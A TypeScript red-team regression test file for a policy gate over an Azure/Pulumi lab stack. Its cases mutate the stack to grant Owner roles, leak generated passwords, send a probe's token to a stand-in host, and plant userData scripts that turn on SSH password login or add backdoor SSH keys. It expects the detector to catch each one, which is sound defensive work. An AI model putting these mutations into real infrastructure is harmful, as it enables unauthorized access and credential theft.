// Regressions the red team found past the gate: role ids and lab roles taken from the program instead of the policy's
// baseline, the probe trusted as the checkout has it, generated secrets in places other than their one sink, weak
// RandomPasswords, literal provider credentials, and password sign-in or SSH keys hidden in nested encodings.
import { gzipSync } from "zlib";
import { BASELINE_ROLE_IDS } from "../../policy/baseline";
import { rules } from "../../policy/rules";
import type { Case } from "./case";
import { addAfter, b64, custom, field, FOLDS, FAKE_PASSWORD, replaceRole, set, T } from "./mutation-helpers";
import type { Mutation } from "./mutate";
import { WIN } from "./mutation-helpers";

const LAB_USERS = { labUsersGroupObjectId: "0a0b0c0d-1111-2222-3333-444455556666" };
const RANDOM_PASSWORD = T.randomPassword;

/**
 * The shape rule (policy/families/shapes.ts) also denies userData outright, and RandomPassword switches the lab never
 * sets: both fire, each with its own message.
 */
const USER_DATA_SHAPE = rules.some((r) => r.id === "inventory-properties") ? ["inventory-properties"] : [];
const UNDECLARED_SHAPE = USER_DATA_SHAPE;
const userData = (text: string): Mutation => set(T.vm, "seat1-vm", { userData: b64(text) });

/** A RandomPassword's result, captured as it is made, for a later mutation to misuse. */
function generated(name: string): { capture: Mutation; value: (sdk: any) => any } {
  let r: any;
  return { capture: { type: RANDOM_PASSWORD, name, change: (p) => p, capture: (x) => (r = x) }, value: (sdk) => sdk.output(r.result) };
}

const canaryInSecret = (fn: (props: any, value: any) => any): Mutation[] => {
  const c = generated("vault-canary-value");
  return [c.capture, { type: T.secret, name: "vault-canary", change: (props, sdk) => fn(props, c.value(sdk)) }];
};

const folded: Case[] = FOLDS.flatMap(({ name, fold }): Case[] => [
  {
    title: `lab users (id ${name}) given Owner's GUID where VM User Login was (lib/azure/roles.ts no longer decides)`,
    config: LAB_USERS,
    mutations: [
      replaceRole("seat1-userlogin", BASELINE_ROLE_IDS.owner),
      field(T.assignment, "seat1-userlogin", "principalId", (id: string) => fold(id)),
    ],
    rules: ["grant-role-assignments"],
    says: /the lab users' group holds "Owner" .*via seat1-userlogin: not in the access matrix/,
  },
  {
    title: `rbac on Windows: the deployer's (id ${name}) Secrets Officer becomes Key Vault Administrator`,
    config: WIN,
    mutations: [
      replaceRole("vault-rbac-operator1", BASELINE_ROLE_IDS.keyVaultAdministrator),
      field(T.assignment, "vault-rbac-operator1", "principalId", (id: string) => fold(id)),
    ],
    rules: ["grant-role-assignments"],
    says: /the deploying principal holds "Key Vault Administrator" .*not in the access matrix/,
  },
]);

export const CREDENTIAL_CASES: readonly Case[] = [
  ...folded,
  // Item 3's side finding: a lab role that takes Owner's GUID would redefine Owner for every assignment that names it.
  {
    title: "lab roles: the listKeys role defined with Owner's GUID",
    config: { customRoleSource: "lab" },
    mutations: [field(T.roleDef, "storage-listkeys-role", "roleDefinitionId", () => BASELINE_ROLE_IDS.owner)],
    rules: ["grant-custom-roles"],
    says: /its GUID 8e3af657-a8ff-443c-a75c-2fe8c4bcb635 is the built-in role "Owner"'s/,
  },
  // Item 4: the probe as pinned in policy/baseline.ts, not as this checkout has it.
  {
    title: "the probe sends its token elsewhere (one line appended)",
    mutations: [
      field(T.runCommand, "seat1-check-probe", "source", (s: any) => ({
        ...s,
        script: `${s.script}\nimport urllib.request; urllib.request.urlopen("https://example.invalid/t")\n`,
      })),
    ],
    rules: ["inventory-run-commands"],
    says: /source\.script \(\d+ chars, sha256 [0-9a-f]{8}\) is not the lab's vm-probe as pinned in policy\/baseline\.ts/,
  },
  // Item 8: generated secrets anywhere but their one sink.
  {
    title: "the canary's value in its secret's tags",
    mutations: canaryInSecret((p, v) => ({ ...p, tags: v.apply((x: string) => ({ note: x })) })),
    rules: ["credential-secret-sinks"],
    says: /vault-canary tags\.note carries the value of random password vault-canary-value \(\d+ chars, sha256 [0-9a-f]{8}\)/,
  },
  {
    title: "the canary's value base64 mid-string in contentType",
    mutations: canaryInSecret((p, v) => ({
      ...p,
      properties: v.apply((x: string) => ({ ...p.properties, contentType: `text/plain; x=${b64(`v1:${x}:end`)}` })),
    })),
    rules: ["credential-secret-sinks"],
    says: /vault-canary properties\.contentType carries the value of random password vault-canary-value/,
  },
  {
    title: "the Windows admin password in the VM's tags",
    config: WIN,
    mutations: (() => {
      const a = generated("seat1-admin-password");
      return [
        a.capture,
        {
          type: T.vm,
          name: "seat1-vm",
          change: (p: any, sdk: any) => ({
            ...p,
            tags: sdk.all([p.tags, a.value(sdk)]).apply(([t, x]: [any, string]) => ({ ...t, pw: Buffer.from(x).toString("hex") })),
          }),
        },
      ];
    })(),
    rules: ["credential-secret-sinks"],
    says: /seat1-vm tags\.pw carries the value of random password seat1-admin-password/,
  },
  {
    title: "the canary secret's value is seat 1's admin password",
    config: WIN,
    mutations: (() => {
      const a = generated("seat1-admin-password");
      return [
        a.capture,
        {
          type: T.secret,
          name: "vault-canary",
          change: (p: any, sdk: any) => ({
            ...p,
            properties: sdk.all([p.properties, a.value(sdk)]).apply(([q, x]: [any, string]) => ({ ...q, value: x })),
          }),
        },
      ];
    })(),
    rules: ["credential-secret-sinks"],
    says: /takes the value of random password seat1-admin-password \(\d+ chars, sha256 [0-9a-f]{8}\), which already goes to another resource/,
  },
  {
    title: "the admin password escrowed in a vault not of this stack",
    config: WIN,
    mutations: (() => {
      const a = generated("seat1-admin-password");
      return [
        a.capture,
        addAfter((sdk) =>
          custom(sdk, T.secret, "injected-escrow", {
            resourceGroupName: "other-rg",
            vaultName: "escrow-kv",
            secretName: "seat1",
            properties: a.value(sdk).apply((x: string) => ({ value: x })),
          }),
        ),
      ];
    })(),
    rules: ["credential-secret-sinks"],
    says: /injected-escrow properties\.value carries the value of random password seat1-admin-password .*\(a vault not of this stack, or not a Windows seat\)/,
  },
  {
    title: "the canary's value exported base64-encoded through pulumi.unsecret",
    mutations: [],
    outputs: (run) => ({ leaked: b64(String(run.resources.find((r) => r.type === RANDOM_PASSWORD)!.state.result)) }),
    rules: ["credential-stack-outputs"],
    says: /Stack output leaked carries the value of random password vault-canary-value/,
  },
  {
    title: "the canary drawn from a four-character alphabet",
    mutations: [
      set(RANDOM_PASSWORD, "vault-canary-value", { upper: false, lower: false, numeric: false, special: true, overrideSpecial: "Aa1!" }),
    ],
    rules: ["credential-random-password-strength", ...UNDECLARED_SHAPE],
    says: /RandomPassword vault-canary-value: upper, lower, numeric are switched off; it draws from 1 distinct characters, fewer than 62/,
  },
  {
    title: "a 12-character canary",
    mutations: [set(RANDOM_PASSWORD, "vault-canary-value", { length: 12 })],
    rules: ["credential-random-password-strength"],
    says: /length 12 is below 32/,
  },
  {
    title: "an explicit provider with a literal clientSecret",
    mutations: [
      addAfter((sdk) =>
        custom(sdk, "pulumi:providers:azure-native", "injected-provider", {
          subscriptionId: "00000000-0000-0000-0000-0000000000aa",
          clientId: "x",
          clientSecret: FAKE_PASSWORD,
          clientCertificatePassword: FAKE_PASSWORD,
        }),
      ),
    ],
    rules: ["credential-provider-literals"],
    says: /Provider injected-provider sets (clientSecret, clientCertificatePassword|clientCertificatePassword, clientSecret): remove them/,
  },
  // Item 6: nested encodings in userData.
  {
    title: "userData: base64 sshd_config PasswordAuthentication yes and a quote-split chpasswd",
    mutations: [
      userData(
        `#!/bin/bash\necho ${b64("PasswordAuthentication  Yes\n")} | base64 -d >> /etc/ssh/sshd_config\necho 'azureuser:x' | chpass""wd\n`,
      ),
    ],
    rules: ["credential-password-login", ...USER_DATA_SHAPE],
    says: /seat1-vm userData turns password sign-in on \(sshd PasswordAuthentication yes.*chpasswd/,
  },
  {
    title: "userData: a cloud-init MIME part, base64, with ssh_pwauth",
    mutations: [
      userData(
        `Content-Type: multipart/mixed; boundary="==b=="\nMIME-Version: 1.0\n\n--==b==\nContent-Type: text/cloud-config; charset="us-ascii"\nContent-Transfer-Encoding: base64\n\n${b64("#cloud-config\nssh_pwauth: true\nchpasswd:\n  expire: false\n").replace(/(.{40})/g, "$1\n")}\n--==b==--\n`,
      ),
    ],
    rules: ["credential-password-login", ...USER_DATA_SHAPE],
    says: /seat1-vm userData turns password sign-in on \(cloud-init ssh_pwauth/,
  },
  {
    title: "userData: gzip cloud-init with ssh_import_id",
    mutations: [
      set(T.vm, "seat1-vm", { userData: gzipSync(Buffer.from("#cloud-config\nssh_import_id: [gh:attacker]\n")).toString("base64") }),
    ],
    rules: ["credential-ssh-keys", ...USER_DATA_SHAPE],
    says: /seat1-vm userData adds a way to sign in \(cloud-init ssh_import_id\)/,
  },
  {
    title: "userData: AuthorizedKeysFile and an sk-ecdsa key",
    mutations: [
      userData(
        `#!/bin/sh\necho 'AuthorizedKeysFile .ssh/ops_keys' >> /etc/ssh/sshd_config\necho 'sk-ecdsa-sha2-nistp256@openssh.com AAAAInNrLWVjZHNhLXNoYTItbmlzdHAyNTZAb3BlbnNzaC5jb20AAAAIbmlzdHAyNTY= ops' > /home/azureuser/.ssh/ops_keys\n`,
      ),
    ],
    rules: ["credential-ssh-keys", ...USER_DATA_SHAPE],
    says: /userData adds a way to sign in \(sshd AuthorizedKeysFile, an SSH public key\)/,
  },
];
